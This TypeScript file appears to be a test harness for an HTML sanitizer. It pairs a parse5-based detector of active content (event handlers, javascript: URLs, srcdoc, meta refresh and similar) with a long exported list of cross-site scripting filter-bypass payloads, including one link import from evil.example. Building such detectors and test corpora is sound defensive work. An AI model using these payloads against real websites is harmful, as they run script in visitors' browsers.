import { parse, type DefaultTreeAdapterTypes } from "parse5";

type Node = DefaultTreeAdapterTypes.Node;

const forbidden = new Set(
  "script iframe object embed form base frame frameset applet template noscript animate set".split(" "),
);

/** What would be active in a browser, with and without scripting: read from the tree of the HTML standard. */
export function findActiveHtml(html: string): string[] {
  return [true, false].flatMap((scriptingEnabled) => [...visit(parse(html, { scriptingEnabled }))]);
}

function* visit(node: Node): Generator<string> {
  if ("tagName" in node) yield* findInElement(node);
  if ("content" in node) yield* visit(node.content);
  if ("childNodes" in node) for (const child of node.childNodes) yield* visit(child);
}

function* findInElement({ tagName, attrs }: DefaultTreeAdapterTypes.Element): Generator<string> {
  const name = tagName.toLowerCase();
  if (forbidden.has(name)) yield `<${name}>`;
  for (const { name: attribute, value } of attrs) {
    const url = value.replace(/[\p{Cc}\s]/gu, "").toLowerCase();
    if (/^on/i.test(attribute) || attribute === "srcdoc" || attribute === "formaction") yield `${name} ${attribute}`;
    if (attribute !== "title" && attribute !== "alt" && /^(?:javascript|vbscript):|^data:text\/html/.test(url)) {
      yield `${name} ${attribute}=${url}`;
    }
    if (name === "meta" && attribute === "http-equiv" && url.includes("refresh")) yield "meta refresh";
    if (name === "link" && attribute === "rel" && url.includes("import")) yield "link import";
  }
}

const image = "<img src=x onerror=alert(1)>";

/** Attempts to smuggle active content past a filter. */
export const activePayloads: readonly string[] = [
  `<style></style/>${image}`,
  `<style></style x>${image}`,
  `<style></style\n>${image}`,
  `<style></style\f/>${image}`,
  `<STYLE></sTyLe/>${image}</style>`,
  `<style><!--</style>${image}-->`,
  `<style>/*</style/>${image}*/</style>`,
  `<title></title/>${image}</title>`,
  `<title><style></title>${image}</style>`,
  `<textarea></textarea/>${image}`,
  `<textarea><style></textarea>${image}</style></textarea>`,
  `<select><style></select>${image}</style>`,
  `<select><option><style></option></select>${image}</style>`,
  `<noscript><style></noscript>${image}</style>`,
  `<noscript><p title="</noscript>${image}">`,
  `<noscript><!--</noscript>${image}-->`,
  `<noembed><style></noembed>${image}</style>`,
  `<noframes><style></noframes>${image}</style>`,
  `<iframe><style></iframe>${image}</style>`,
  `<xmp><style></xmp>${image}</style>`,
  `<xmp><p title="</xmp>${image}">`,
  `<plaintext><style>${image}`,
  `<template>${image}</template>`,
  `<template><style></template>${image}</style></template>`,
  `<svg><style>${image}</style></svg>`,
  `<svg><style><a title="</style>${image}">`,
  `<svg></p><style><a id="</style>${image}">`,
  `<svg><title><style>${image}</style></title></svg>`,
  `<svg><desc>${image}</desc></svg>`,
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href="data:text/javascript,alert(1)"/></svg>`,
  `<svg/onload=alert(1)>`,
  `<svg onload=alert(1)//`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:alert(1)></animate>x</a></svg>`,
  `<svg><set attributeName=href to=javascript:alert(1)></svg>`,
  `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
  `<![CDATA[${image}]]>`,
  `<math><style>${image}</style></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!--a--!>${image}-->`,
  `<!--[if mso]>-->${image}<!--<![endif]-->`,
  `<!--[if mso]><![endif]-->${image}`,
  `<!-- a > -- >${image}-->${image}`,
  `<!x>${image}`,
  `<?xml ?>${image}`,
  `<? "${image}" ?>`,
  `</ ${image}>`,
  `</x ${image}`,
  `<%${image}%>`,
  `<img/src="x"/onerror=alert(1)>`,
  `<img src=x onerror\n=\nalert(1)>`,
  `<img src='x'onerror=alert(1)>`,
  `<img src="x"title="a"onerror="alert(1)">`,
  `<img title='a"'src=x onerror='alert(1)'>`,
  `<img src=\`x\` onerror=alert(1)>`,
  `<img =x onerror=alert(1)>`,
  `<img "a" onerror=alert(1)>`,
  `<img src=x ONERROR=alert(1)>`,
  `<img src=x onerror=alert(1)`,
  `<p onpointerrawupdate=alert(1)>x</p>`,
  `<body onload=alert(1)>`,
  `<html onclick=alert(1)><body>x`,
  `<p>x</p><body onload=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href="javas\tcript:alert(1)">x</a>`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
  `<a href="&#0000106avascript:alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href=" &Tab;javascript&NewLine;:alert(1)">x</a>`,
  `<a href=javascript:alert(1) >x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`,
  `<area href="javascript:alert(1)">`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`,
  `<object data="data:text/html,x"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv=REFRESH content=0>`,
  `<link rel="import" href="https://evil.example/x">`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<isindex action="javascript:alert(1)">`,
  `<scr<script>ipt>alert(1)</script>`,
  `<script/x>alert(1)</script>`,
  `<script\f>alert(1)</script\f>`,
  `<script>alert(1)<!--<script></script>--></script>${image}`,
  `<table><td><style></td></table></style/>${image}`,
  `<table>${image}</table>`,
  `<b><table><style></b></style>${image}</table>`,
  `<p><svg><p><style></style/>${image}`,
  `<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
  `<video><source onerror=alert(1)></video>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>`,
];
